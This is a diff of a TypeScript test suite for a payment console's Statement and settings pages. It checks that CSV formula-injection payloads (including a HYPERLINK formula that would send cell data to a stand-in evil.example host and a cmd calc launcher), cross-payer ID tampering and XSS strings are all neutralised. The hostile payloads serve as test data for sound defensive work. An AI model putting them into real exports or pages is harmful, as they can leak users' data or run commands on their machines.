@@ -2,21 +2,24 @@
  * Attacks on the console's money and settings pages (DESIGN §21), against DynamoDB Local with the
  * pages called as the framework calls them:
  * - a malicious agent names itself and describes its charges as spreadsheet formulas, hoping the
- *   payer opens Activity's CSV in a spreadsheet: every such cell must be inert text (a leading ');
+ *   payer opens the Statement's CSV in a spreadsheet: every such cell must be inert text (a leading
+ *   '), while the amounts stay numbers;
  * - a signed-in payer sends another payer's ids (top-up, grant, webhook endpoint, history cursor)
- *   in URLs: each is refused as not found (404, or 400 for a cursor), shows nothing of the other
- *   payer's and changes nothing.
+ *   in URLs: each is refused as not found (404), shows nothing of the other payer's and changes
+ *   nothing; the Statement's cursor (a position, read in the caller's own rows) shows none of theirs.
  * - markup in what an agent writes is shown as text, never as markup.
  */
 
+import { statementQuerySchema } from '../../functions/contracts/request.schemas';
+import { validate } from '../../functions/contracts/validation';
 import { listOwnerWebhooks } from '../../functions/use-cases/events/webhooks';
 import { listMyGrants } from '../../functions/use-cases/identity/grants';
-import { listMyCharges } from '../../functions/use-cases/identity/payers';
+import { readStatement, statementView } from '../../functions/use-cases/identity/statement';
 import { bodyOf, charge, consolePagesEnv, credit, get, newAgent, newPayer, onceKeyOf, post, statusOf } from '../console/pages/support';
 
 consolePagesEnv();
 
-describe('CSV formula injection through Activity’s Download CSV', () => {
+describe('CSV formula injection through the Statement’s Download CSV', () => {
   it('turns every cell an agent controls that starts with = + - @ (or tab / CR) into inert text', async () => {
     const payer = await newPayer();
     await credit(payer, '10', 'USD');
@@ -24,18 +27,32 @@ describe('CSV formula injection through Activity’s Download CSV', () => {
     const payloads = ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", '-2+3', '=1+1', '\t=1+1', '\r=1+1'];
     for (const description of payloads) await charge(evil, payer, '0.01', 'USD', description);
 
-    const csv = await get(payer, '/console/activity/csv');
+    const csv = await get(payer, '/console/statement/csv?type=charge');
     if (csv.kind !== 'download') throw new Error('no download');
     // Parse it as a spreadsheet would (RFC 4180), then look at every cell.
     const cells = parseCsv(csv.body);
-    expect(cells[0]).toEqual(['id', 'createdAt', 'agent', 'description', 'amount', 'currency', 'status']);
+    expect(cells[0]).toEqual([
+      'id',
+      'createdAt',
+      'type',
+      'counterparty',
+      'description',
+      'amount',
+      'currency',
+      'balanceAfter',
+      'status',
+      'grantId',
+      'reference',
+    ]);
     const rows = cells.slice(1);
     expect(rows).toHaveLength(payloads.length);
     for (const row of rows) {
-      for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
-      expect(row[2]).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"Click")');
+      // The amount and the balance after it are the service's own numbers (a debit is negative): plain decimals.
+      expect([row[5], row[7]]).toEqual([expect.stringMatching(/^-?\d+\.\d+$/), expect.stringMatching(/^\d+\.\d+$/)]);
+      for (const cell of row.filter((_, i) => i !== 5 && i !== 7)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+      expect(row[3]).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"Click")');
     }
-    expect(rows.map((r) => r[3]).sort()).toEqual(payloads.map((p) => `'${p}`).sort());
+    expect(rows.map((r) => r[4]).sort()).toEqual(payloads.map((p) => `'${p}`).sort());
   });
 });
 
@@ -59,7 +76,7 @@ describe('another payer’s ids in the console’s URLs', () => {
     });
     const [hook] = await listOwnerWebhooks({ kind: 'user', id: owner.userId });
     for (let i = 0; i < 3; i++) await charge(agent, owner, '1', 'USD', `owner secret ${i}`);
-    const history = bodyOf(await get(owner, '/console/activity'));
+    const history = bodyOf(await get(owner, '/console/statement'));
     expect(history).toContain('owner secret');
 
     // The intruder, signed in as themself, tries each id.
@@ -70,17 +87,17 @@ describe('another payer’s ids in the console’s URLs', () => {
     expect(statusOf(await get(intruder, `/console/developers/webhooks/${hook?.id}`))).toBe(404);
     expect(statusOf(await post(intruder, `/console/developers/webhooks/${hook?.id}/delete`, {}))).toBe(404);
     expect(statusOf(await post(intruder, `/console/developers/webhooks/${hook?.id}/test`, {}))).toBe(404);
-    // A cursor cut from the owner's history names none of the intruder's charges.
+    // A cursor cut from the owner's statement is a position: read in the intruder's own rows, it shows none of the owner's.
     const ownerPage = await charge(agent, owner, '1', 'USD', 'one more');
     expect(ownerPage.statusCode).toBe(201);
-    const cursor = (await listMyCharges(owner.userId, { limit: 1 }, 'http://localhost')).nextCursor as string;
-    const stolen = await get(intruder, `/console/activity?cursor=${encodeURIComponent(cursor)}`);
-    expect(statusOf(stolen)).toBe(400);
+    const cursor = statementView(await readStatement(owner.userId, validate(statementQuerySchema, { limit: '1' }))).nextCursor as string;
+    expect(cursor).toEqual(expect.any(String));
+    const stolen = await get(intruder, `/console/statement?cursor=${encodeURIComponent(cursor)}`);
     expect(bodyOf(stolen)).not.toContain('owner secret');
-    const stolenCsv = await get(intruder, `/console/activity/csv?cursor=${encodeURIComponent(cursor)}`);
+    const stolenCsv = await get(intruder, `/console/statement/csv?cursor=${encodeURIComponent(cursor)}`);
     expect(stolenCsv.kind === 'download' ? stolenCsv.body : '').not.toContain('owner secret');
     // The intruder's own views show nothing of the owner's.
-    for (const path of ['/console/funds', '/console/grants', '/console/limits', '/console/developers', '/console/activity']) {
+    for (const path of ['/console/funds', '/console/grants', '/console/limits', '/console/developers', '/console/statement']) {
       const markup = bodyOf(await get(intruder, path));
       expect(markup).not.toContain('owner secret');
       expect(markup).not.toContain(grant?.id ?? 'none');
@@ -93,14 +110,14 @@ describe('another payer’s ids in the console’s URLs', () => {
 });
 
 describe('what an agent writes is text, never markup', () => {
-  it('escapes an agent’s name and description on Activity, Grants and Limits', async () => {
+  it('escapes an agent’s name and description on the Statement, Grants and Limits', async () => {
     const payer = await newPayer();
     await credit(payer, '10', 'USD');
     const agent = await newAgent('<img src=x onerror=alert(1)>');
     await charge(agent, payer, '1', 'USD', '<script>alert(2)</script>');
     const grants = bodyOf(await get(payer, '/console/grants'));
     await post(payer, '/console/grants', { agentId: agent.id, currency: 'USD', idempotencyKey: onceKeyOf(grants, '/console/grants') });
-    for (const path of ['/console/activity', '/console/grants', '/console/limits']) {
+    for (const path of ['/console/statement', '/console/grants', '/console/limits']) {
       const markup = bodyOf(await get(payer, path));
       expect(markup).not.toContain('<img src=x');
       expect(markup).not.toContain('<script>');
